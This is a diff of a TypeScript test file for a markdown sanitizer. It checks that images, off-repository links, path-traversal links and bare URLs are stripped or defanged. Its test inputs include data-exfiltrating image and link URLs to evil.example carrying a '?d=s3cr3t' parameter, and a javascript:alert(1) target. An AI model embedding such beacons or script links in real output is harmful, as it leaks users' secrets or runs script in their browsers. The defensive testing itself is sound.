@@ -10,6 +10,7 @@ import {
   updateOccurrences,
 } from '../../functions/core/render-pull-request.ts';
 import { fencedCode, inlineCode, sanitizeMarkdown } from '../../functions/core/sanitize-markdown.ts';
+import { repositoryLinkScope } from '../../functions/core/scrub-prose.ts';
 
 const FINGERPRINT = '1a2b3c4d5e6f708192a3b4c5d6e7f809';
 
@@ -56,11 +57,34 @@ function makeInput(overrides: Partial<RenderPullRequestInput> = {}): RenderPullR
 }
 
 describe('sanitizeMarkdown', () => {
-  it('turns images into text links and drops images with unsafe targets', () => {
-    const out = sanitizeMarkdown('see ![pixel](https://evil.example/p.png) and ![x](javascript:alert(1))');
-    expect(out).not.toMatch(/!\[/);
-    expect(out).toContain('[image: pixel](https://evil.example/p.png)');
-    expect(out).not.toContain('javascript:');
+  it('never renders an image, not even as a link that keeps its ?d= URL (issue #11)', () => {
+    const out = sanitizeMarkdown(
+      'see ![pixel](https://evil.example/p.png?d=s3cr3t) and ![x](javascript:alert(1))',
+      { allowedLinks: [repositoryLinkScope({ owner: 'acme', name: 'shop' })] },
+    );
+    expect(out).toBe('see pixel and x');
+  });
+
+  it('links only to the repository itself; other links keep their label, bare URLs are defanged (issue #11)', () => {
+    const allowedLinks = [repositoryLinkScope({ owner: 'acme', name: 'shop' })];
+    const out = sanitizeMarkdown(
+      [
+        '[the line](https://github.com/acme/shop/blob/main/app.py#L2)',
+        '[docs](https://evil.example/?d=s3cr3t)',
+        '[other repo](https://github.com/attacker/x?d=1)',
+        '[escape](https://github.com/acme/shop/..%2f..%2fattacker)',
+        'bare https://evil.example/c?d=s3cr3t and www.evil.example/x',
+        '[ref][r]',
+        '',
+        '[r]: https://evil.example/r',
+      ].join('\n'),
+      { allowedLinks },
+    );
+    expect(out).toContain('[the line](https://github.com/acme/shop/blob/main/app.py#L2)');
+    expect(out).toContain('docs\nother repo\nescape');
+    expect(out).toContain('bare https[:]//evil.example/c?d=s3cr3t and www[.]evil.example/x');
+    expect(out).not.toMatch(/\(https:\/\/(?!github\.com\/acme\/shop\/blob)/);
+    expect(out).not.toContain('[r]:');
   });
 
   it('escapes raw HTML: script tags and img onerror', () => {
@@ -98,7 +122,11 @@ describe('sanitizeMarkdown', () => {
     );
     expect(out).not.toMatch(/javascript/i);
     expect(out).toContain('click two three');
-    expect(out).toContain('[ok](https://example.com/a?b=1)');
+    expect(
+      sanitizeMarkdown('[ok](https://example.com/a?b=1)', {
+        allowedLinks: [{ host: 'example.com', pathPrefix: '/a' }],
+      }),
+    ).toBe('[ok](https://example.com/a?b=1)');
   });
 
   it('removes reference definitions with unsafe targets', () => {
